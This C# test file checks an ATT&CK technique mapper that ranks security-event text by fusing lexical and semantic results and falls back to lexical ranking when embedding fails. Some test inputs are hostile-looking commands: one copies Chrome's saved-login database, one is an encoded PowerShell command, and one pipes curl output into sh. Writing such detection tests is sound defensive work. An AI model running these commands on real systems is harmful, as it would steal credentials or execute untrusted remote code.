using Verdict.Attack.Mapping;
using Verdict.Tests.Support;

namespace Verdict.Tests.Attack.Mapping;

/// <summary>MapAsync: lexical and semantic rankings fused by RRF, and the fall-back to lexical ranking when embedding fails.</summary>
public sealed class TechniqueMapperFusionTests
{
    private static readonly CancellationToken Ct = TestContext.Current.CancellationToken;

    private static async Task<(TechniqueMapper Mapper, FakeEmbeddingGenerator Generator, List<string> Failures)> Build()
    {
        var generator = new FakeEmbeddingGenerator();
        var index = await SemanticTechniqueIndex.BuildAsync(SemanticFixture.KnowledgeBase, generator, cancellationToken: Ct);
        var failures = new List<string>();
        return (new TechniqueMapper(SemanticFixture.KnowledgeBase, index, failures.Add), generator, failures);
    }

    [Fact]
    public async Task Fusion_finds_the_technique_a_text_means_in_other_words()
    {
        var (mapper, _, failures) = await Build();
        var input = MappingInput.FromText(SemanticFixture.NoSharedWords);

        var lexical = mapper.Map(input);
        var fused = await mapper.MapAsync(input, cancellationToken: Ct);

        Assert.DoesNotContain(lexical, t => t.Id == SemanticFixture.Target);
        Assert.InRange(SemanticFixture.RankOf(fused.Select(t => t.Id), SemanticFixture.Target), 1, 3);
        var target = fused.Single(t => t.Id == SemanticFixture.Target);
        Assert.Equal([TechniqueMapper.FusedSignal], target.Signals);
        Assert.All(fused, t => Assert.InRange(t.Score, 0, 0.45));
        Assert.Empty(failures);
    }

    [Fact]
    public async Task Fusion_lifts_the_meant_technique_above_word_matches()
    {
        var (mapper, _, _) = await Build();
        var input = MappingInput.FromText(SemanticFixture.FewSharedWords);

        var lexicalRank = SemanticFixture.RankOf(mapper.Map(input).Select(t => t.Id), SemanticFixture.Target);
        var fusedRank = SemanticFixture.RankOf((await mapper.MapAsync(input, cancellationToken: Ct)).Select(t => t.Id), SemanticFixture.Target);

        Assert.True(lexicalRank > 2, $"lexical rank {lexicalRank}");
        Assert.True(fusedRank <= 2, $"fused rank {fusedRank}");
    }

    [Fact]
    public async Task Rules_and_tags_keep_their_scores_and_the_query_is_the_lexical_text()
    {
        var (mapper, generator, _) = await Build();
        var input = new MappingInput { Title = "Browser password theft", Tags = ["attack.t1113"], CommandLine = "copy \"%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data\" c:\\temp\\x" };
        generator.Calls.Clear();

        var fused = await mapper.MapAsync(input, cancellationToken: Ct);
        var lexical = mapper.Map(input);

        Assert.Equal(1.0, fused.Single(t => t.Id == "T1113").Score);
        Assert.Contains("credentials from web browsers", fused.Single(t => t.Id == SemanticFixture.Target).Signals);
        Assert.Equal(SemanticFixture.Target, fused[1].Id);
        Assert.Equal(lexical.Select(t => t.Id).Take(2), fused.Select(t => t.Id).Take(2));
        var query = Assert.Single(Assert.Single(generator.Calls));
        Assert.Contains("Browser password theft", query);
        Assert.Contains("Login Data", query);
    }

    [Fact]
    public async Task Without_a_semantic_index_MapAsync_is_Map()
    {
        var mapper = new TechniqueMapper(AttackFixtures.Stix20);
        foreach (var text in new[] { "powershell -enc SQBFAFgAIAAoAGcAYwAgAGEALgB0AHgAdAApAA==", "bash -c 'curl http://x | sh'", SemanticFixture.FewSharedWords, "" })
        {
            var input = MappingInput.FromText(text);
            Assert.Equivalent(mapper.Map(input, 3), await mapper.MapAsync(input, 3, Ct), strict: true);
        }
        Assert.Null(mapper.Semantic);
    }

    [Fact]
    public async Task A_failing_embedding_call_falls_back_to_lexical_and_is_reported_once()
    {
        var (mapper, generator, failures) = await Build();
        generator.Failure = () => new HttpRequestException("Response status code does not indicate success: 500");
        var input = MappingInput.FromText(SemanticFixture.FewSharedWords);

        var first = await mapper.MapAsync(input, cancellationToken: Ct);
        var second = await mapper.MapAsync(MappingInput.FromText(SemanticFixture.NoSharedWords), cancellationToken: Ct);

        Assert.Equivalent(mapper.Map(input), first, strict: true);
        Assert.All(first, t => Assert.Equal([TechniqueMapper.LexicalSignal], t.Signals));
        Assert.Equivalent(mapper.Map(MappingInput.FromText(SemanticFixture.NoSharedWords)), second, strict: true);
        var note = Assert.Single(failures);
        Assert.StartsWith("semantic retrieval failed: Response status code does not indicate success: 500. Ranking lexically", note);
        Assert.Equal(2, mapper.SemanticFailures);
    }

    [Fact]
    public async Task After_repeated_failures_the_service_is_no_longer_called_and_success_resets_the_count()
    {
        var (mapper, generator, failures) = await Build();
        var input = MappingInput.FromText(SemanticFixture.FewSharedWords);
        generator.Failure = () => new TimeoutException();
        for (var i = 0; i < TechniqueMapper.MaxConsecutiveFailures - 1; i++) await mapper.MapAsync(input, cancellationToken: Ct);
        generator.Failure = null;
        await mapper.MapAsync(input, cancellationToken: Ct); // a success: the failures were not in a row
        generator.Failure = () => new TimeoutException();
        for (var i = 0; i < TechniqueMapper.MaxConsecutiveFailures + 3; i++) await mapper.MapAsync(input, cancellationToken: Ct);
        generator.Calls.Clear();

        await mapper.MapAsync(input, cancellationToken: Ct);

        Assert.Empty(generator.Calls);
        Assert.Single(failures);
        Assert.Equal(TechniqueMapper.MaxConsecutiveFailures - 1 + TechniqueMapper.MaxConsecutiveFailures + 4, mapper.SemanticFailures);
    }

    [Fact]
    public async Task Cancellation_by_the_caller_is_not_a_failure()
    {
        var (mapper, _, failures) = await Build();
        using var cancelled = new CancellationTokenSource();
        await cancelled.CancelAsync();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => mapper.MapAsync(MappingInput.FromText("x y z"), cancellationToken: cancelled.Token));
        Assert.Empty(failures);
    }

    [Fact]
    public void Reciprocal_rank_fusion_rewards_agreement_between_rankings()
    {
        var fused = TechniqueMapper.ReciprocalRankFusion(["A", "B", "C"], ["C", "B", "D"]);

        Assert.Equal(["C", "B", "A", "D"], fused.Select(f => f.Id));
        Assert.Equal(1.0 / 61 + 1.0 / 63, fused[0].Score, 12);
        Assert.Equal(2.0 / 62, fused[1].Score, 12);
        Assert.Equal(1.0 / 61, fused[2].Score, 12);
        Assert.Equal(1.0 / 63, fused[3].Score, 12);
    }
}
